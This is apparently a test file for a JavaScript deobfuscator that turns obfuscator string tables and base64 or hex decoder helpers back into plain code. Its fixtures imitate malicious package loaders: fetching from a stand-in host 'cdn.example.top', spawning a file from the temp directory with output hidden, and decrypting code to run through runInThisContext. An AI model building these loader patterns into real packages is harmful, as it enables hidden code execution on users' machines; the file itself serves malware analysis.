import { describe, expect, it } from 'vitest';
import { rewrittenView } from './aliases.js';
import { decoderHelperEdits, stringTableEdits } from './tables.js';

const view = (code: string): string => rewrittenView(code, stringTableEdits(code)).text;

describe('string tables read back', () => {
  it('reads an accessor call, a member through it and a direct index, keeping lines', () => {
    const code = [
      "var _0x1f = ['spawn', 'tmpdir', 'cdn.example.top', '/r/', 'ignore'], _0x2a = function (n) { return _0x1f[n]; };",
      'var c = require("child_process"), d = o[_0x2a(0x1)]();',
      'h.get({ host: _0x2a(2), path: _0x1f[3] });',
      "c[_0x2a(0)](d, [], { stdio: _0x2a(4) });",
    ].join('\n');
    const out = view(code);
    expect(out.split('\n')).toHaveLength(4);
    expect(out).toContain('o.tmpdir()');
    expect(out).toContain('host: "cdn.example.top", path: "/r/"');
    expect(out).toContain('c.spawn(d, [], { stdio: "ignore" })');
  });

  it('takes the accessor offset and the push/shift rotation an obfuscator writes', () => {
    const code = [
      "var _0xa = ['b', 'c', 'd', 'e', 'a'];",
      '(function (t, n) { var f = function (k) { while (--k) { t["push"](t["shift"]()); } }; f(++n); })(_0xa, 0x4);',
      'var _0xb = function (i, key) { i = i - 0x10; var v = _0xa[i]; return v; };',
      "x(_0xb(0x10), _0xb(17, 'k'));",
    ].join('\n');
    expect(view(code)).toContain('x("a", "b")');
  });

  it('leaves tables a decoder reads, a checksum rotation and escaped text alone or read plainly', () => {
    const rc4 = "var _0x1 = ['YWJj', 'ZGVm', 'Z2hp', 'amts', 'bW5v'], _0x2 = function (n) { return atob(_0x1[n]); };\nf(_0x2(0));";
    expect(stringTableEdits(rc4).filter((e) => e.text.includes('YWJj'))).toEqual([]);
    const checksum = "var _0x3 = ['1', '2', '3', '4', '5'];\n(function (t, n) { while (true) { try { if (parseInt(t[0]) === n) break; t.push(t.shift()); } catch (e) { t.push(t.shift()); } } })(_0x3, 0x2);\nvar _0x4 = function (n) { return _0x3[n]; };\ng(_0x4(1));";
    expect(stringTableEdits(checksum)).toEqual([]);
    const escaped = "var t = ['\\x73pawn', 'b', 'c', 'd', 'e'];\nq[t[0]]();";
    expect(view(escaped)).toContain('q.spawn()');
  });

  it('ignores short arrays, arrays with other elements and a name given two tables', () => {
    expect(stringTableEdits("var a = ['x', 'y'];\nf(a[0]);")).toEqual([]);
    expect(stringTableEdits("var a = ['x', 'y', z, 'w', 'v'];\nf(a[0]);")).toEqual([]);
    expect(stringTableEdits("var a = ['x', 'y', 'z', 'w', 'v'];\nvar a = ['1', '2', '3', '4', '5'];\nf(a[0]);")).toEqual([]);
  });
});

describe('tables and helpers that decode', () => {
  const b64r = (t: string): string => [...Buffer.from(t).toString('base64')].reverse().join('');
  it('reads an accessor that base64-decodes its entry, turned round first, with its offset', () => {
    const table = ['require', 'fs', 'readFileSync', 'createDecipheriv', 'runInThisContext'].map(b64r);
    const code = `var t=${JSON.stringify(table)};function d(i){return typeof atob=='function'?decodeURIComponent(escape(atob(t[i-0x1c].split('').reverse().join('')))):Buffer.from(t[i-0x1c].split('').reverse().join(''),'base64').toString();}\nvar r=module[d(0x1c)].bind(module), f=r(d(0x1d));c[d(0x1f)](k);v[d(0x20)](s);`;
    const out = view(code);
    expect(out).toContain('module.require.bind(module)');
    expect(out).toContain('f=r("fs")');
    expect(out).toContain('c.createDecipheriv(k);v.runInThisContext(s)');
  });

  it("leaves a table whose accessor decodes in a loop of its own, or whose entries are not base64 text", () => {
    const table = ['cmVxdWlyZQ==', 'ZnM=', 'cGF0aA==', 'b3M=', 'dm0='];
    const loop = `var t=${JSON.stringify(table)};function d(i){var s=atob(t[i]),o='';for(var k=0;k<s.length;k++)o+=String.fromCharCode(s.charCodeAt(k)^7);return o;}\nx(d(1));`;
    expect(stringTableEdits(loop)).toEqual([]);
    const binary = `var t=${JSON.stringify(['/w==', '/g==', '/Q==', '/A==', '+w=='])};function d(i){return atob(t[i]);}\nx(d(1));`;
    expect(stringTableEdits(binary)).toEqual([]);
  });

  it("writes a decoding helper's calls with a literal as the text they return", () => {
    const hex = (t: string): string => Buffer.from(t).toString('hex');
    const code = `function e(r) { return Buffer.from(r, 'hex').toString(); }\nvar o = process[e('${hex('env')}')][e('${hex('npm_package_description')}')], n = require(e('${hex('./fixtures')}'));\nconst b = (s) => atob(s);\nb('${Buffer.from('https://cdn.example.top/x').toString('base64')}');`;
    const out = rewrittenView(code, decoderHelperEdits(code)).text;
    expect(out).toContain('process.env.npm_package_description');
    expect(out).toContain('require("./fixtures")');
    expect(out).toContain('"https://cdn.example.top/x"');
    expect(out.split('\n')).toHaveLength(4);
    // a helper that does more than decode (parses, slices) is not read; nor a literal that is not its encoding
    expect(decoderHelperEdits("function e(r) { return JSON.parse(Buffer.from(r, 'hex').toString()); }\ne('7b7d');")).toEqual([]);
    expect(decoderHelperEdits("function e(r) { return Buffer.from(r, 'hex').toString(); }\ne('not hex');")).toEqual([]);
  });
});
